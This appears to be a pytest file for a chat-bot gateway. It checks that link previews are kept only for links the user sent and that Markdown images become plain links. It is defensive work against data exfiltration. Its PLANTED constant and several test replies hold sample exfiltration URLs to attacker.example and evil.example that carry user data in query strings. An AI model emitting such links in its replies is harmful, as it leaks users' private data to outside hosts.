"""Links in what the bot sends (issue 23, item 6): a preview only for a link the person
sent in the session, and Markdown images as links."""

from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.delivery import LinkSink, images_as_links, previews_allowed, trusted_links
from gateway.delivery.links import links_in
from tests.gateway.delivery.test_streaming import make, settle, stream

PLANTED = "Done. ![status](https://attacker.example/c?d=alice-lives-in-lyon)"


@pytest.mark.parametrize(
    ("person", "reply"),
    [
        ("look at https://example.com/page", "Here: https://example.com/page."),
        ("example.com/page please", "See <https://www.Example.com/page/>"),
        ("read [this](https://docs.io/a?b=1)", "From **https://docs.io/a?b=1**"),
        ("no link at all", "no link in the reply either"),
    ],
)
def test_a_link_the_person_sent_keeps_its_preview(person: str, reply: str) -> None:
    assert previews_allowed(reply, trusted_links([person]))


@pytest.mark.parametrize(
    "reply",
    [
        "Here: https://example.com/page?d=secret",  # the person's link, with data added
        "Here: https://example.com/other",
        "Here: attacker.example/x?d=1",  # no scheme: Telegram links it all the same
        "Here: www.attacker.example",
        "text,attacker.example/?d=1",
        "evil.example/?d=x](https://example.com/page)",  # a trusted link after a host
        "http://10.0.0.1/x",
        PLANTED,
    ],
)
def test_any_other_link_turns_previews_off(reply: str) -> None:
    assert not previews_allowed(reply, trusted_links(["see https://example.com/page"]))


def test_an_email_address_is_not_a_link() -> None:
    assert links_in("write to bob@mail.example") == []


def test_finding_links_is_linear() -> None:
    hostile = "a." * 200_000 + " " + "a+" * 200_000 + "://"
    started = time.perf_counter()
    links_in(hostile)
    assert time.perf_counter() - started < 0.5


def test_images_become_links_and_code_stays() -> None:
    written = (
        'see ![status](https://a.example/?u=1 "t") and `![a](b)` and ![](https://x.example/a)'
        "\n\n```\n![c](d)\n```"
    )
    assert images_as_links(written) == (
        'see [status](https://a.example/?u=1 "t") and `![a](b)` and [🖼](https://x.example/a)'
        "\n\n```\n![c](d)\n```"
    )
    assert len(images_as_links(written)) <= len(written)
    assert (
        images_as_links("![r][r]\n\n[r]: https://r.example") == "[r][r]\n\n[r]: https://r.example"
    )


_PIECES = st.sampled_from(
    [" ", "\n", "![", "](", ")", "[", "]", "`", "https://", "www.", ".com", "/p?q=1", "a", "é", "."]
)
_TEXTS = st.lists(_PIECES, max_size=40).map("".join)


@given(_TEXTS, _TEXTS)
def test_what_the_person_sent_is_trusted_and_anything_added_to_a_link_is_not(
    person: str, extra: str
) -> None:
    assert previews_allowed(person, trusted_links([person]))
    for link in links_in(person):
        grown = link + "?d=" + extra.replace(" ", "").replace("\n", "") + "x"
        assert not previews_allowed(f"see {grown}", trusted_links([person]))


@given(_TEXTS)
def test_images_as_links_never_lengthens_and_leaves_no_image(text: str) -> None:
    converted = images_as_links(text)
    assert len(converted) <= len(text)
    assert images_as_links(converted) == converted  # nothing left to turn into a link


async def test_a_streamed_reply_with_a_foreign_link_never_asks_for_previews() -> None:
    reply, channel, _, clock = make()
    assert isinstance(reply, LinkSink)
    reply.trust_links(["my page is https://example.com/page"])
    await stream(reply, ["Your page https://example.com/page ", "is fine. ", PLANTED], clock)
    await reply.finish()
    calls = channel.of("send") + channel.of("edit")
    assert calls and calls[-1].text.endswith(PLANTED)
    for call in calls:  # each call decides for its own text
        assert call.previews == ("attacker" not in call.text), call
    assert any(call.previews for call in calls)  # before the planted link arrived


async def test_a_reply_with_only_the_persons_link_keeps_previews() -> None:
    reply, channel, _, _ = make()
    reply.trust_links(["earlier: https://example.com/page", "thanks"])
    await reply.write("Your page https://example.com/page is fine.")
    await settle(reply)
    await reply.finish()
    [sent] = channel.of("send")
    assert sent.previews
    assert all(call.previews for call in channel.of("edit"))


async def test_a_reply_never_told_keeps_no_preview_for_any_link() -> None:
    reply, channel, _, _ = make()
    await reply.write("See https://example.com/page")
    await reply.finish()
    [sent] = channel.of("send")
    assert not sent.previews
